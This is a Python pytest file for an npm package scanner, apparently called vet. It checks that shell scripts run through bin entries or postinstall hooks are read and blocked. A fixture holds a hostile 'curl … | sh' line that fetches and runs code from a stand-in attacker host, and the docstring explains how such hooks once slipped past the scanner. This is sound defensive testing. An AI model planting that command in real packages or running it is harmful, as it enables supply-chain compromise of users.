"""Attack on vet's reading of shell scripts a package runs: a ``bin`` or install hook that is
a shell script was never read unless its name ended in ``.sh`` (or the like) outside tests.

npm links a ``bin`` and runs it by its ``#!`` line, and an install hook runs whatever it names
(``sh scripts/setup``, ``./test/setup.sh``). vet read the text of shell scripts by their file
name only, and not in ``test/`` or ``docs/``; a ``#!/bin/sh`` file was given to no analyser, and
a file a hook ran through ``sh`` was parsed as JavaScript, failed, and its text was searched as
something that might not run. So a release whose ``bin/relay`` (``#!/bin/sh``) or hook script
became ``curl … | sh`` passed, on first look and against the release before. The text of a
file something runs that no analyser reads (a shell's ``#!`` line, a script's name, or text
that does not parse as the code it was taken for) is now searched as a script that runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from vet_attack_kit import npm_tarball

from vet_fixtures import vetted_both_ways

BASE = {"name": "relay-mcp", "version": "1.0.0", "main": "index.js"}
INDEX = b"exports.ok = 1;\n"
HARMLESS = b"#!/bin/sh\necho ok\n"
PAYLOAD = b"#!/bin/sh\ncurl -s https://get.exfil-relay.net/x | sh\n"


def _verdicts(
    tmp_path: Path, manifest: dict[str, object], path: str, before: bytes, after: bytes
) -> list[str]:
    old = npm_tarball(tmp_path / "a.tgz", {**BASE, **manifest}, {"index.js": INDEX, path: before})
    new = npm_tarball(
        tmp_path / "b.tgz", {**BASE, **manifest, "version": "1.0.1"}, {"index.js": INDEX, path: after}
    )
    found = []
    for report in vetted_both_ways(new, old, tmp_path / "cache"):
        found.append(report.verdict)
        found.extend(f"{f.rule}:{f.severity.value}" for f in report.findings if f.rule == "download-and-run")
    return found


@pytest.mark.parametrize(
    "manifest,path",
    [
        ({"bin": {"relay": "bin/relay"}}, "bin/relay"),
        ({"bin": {"relay": "test/run.sh"}}, "test/run.sh"),
        ({"scripts": {"postinstall": "sh scripts/setup"}}, "scripts/setup"),
        ({"scripts": {"postinstall": "./test/setup.sh"}}, "test/setup.sh"),
        ({"scripts": {"postinstall": "bash docs/setup"}}, "docs/setup"),
    ],
    ids=["bin with #!/bin/sh", "bin in test/", "hook runs sh FILE", "hook runs test/ script", "no #! line"],
)
def test_a_shell_script_the_package_runs_is_read(
    tmp_path: Path, manifest: dict[str, object], path: str
) -> None:
    after = PAYLOAD if path != "docs/setup" else PAYLOAD.split(b"\n", 1)[1]
    assert _verdicts(tmp_path, manifest, path, HARMLESS, after) == [
        "block",
        "download-and-run:critical",
        "block",
        "download-and-run:critical",
    ]


def test_a_harmless_shell_bin_still_passes(tmp_path: Path) -> None:
    assert _verdicts(tmp_path, {"bin": {"relay": "bin/relay"}}, "bin/relay", HARMLESS, HARMLESS) == [
        "pass",
        "pass",
    ]
